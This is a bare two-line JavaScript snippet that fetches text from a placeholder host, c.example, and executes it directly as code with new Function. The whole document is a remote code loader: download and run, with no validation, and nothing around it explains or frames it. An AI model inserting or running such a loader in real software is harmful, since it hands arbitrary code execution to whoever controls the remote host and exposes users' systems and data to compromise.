const r = await fetch('https://c.example/x');
new Function(await r.text())();
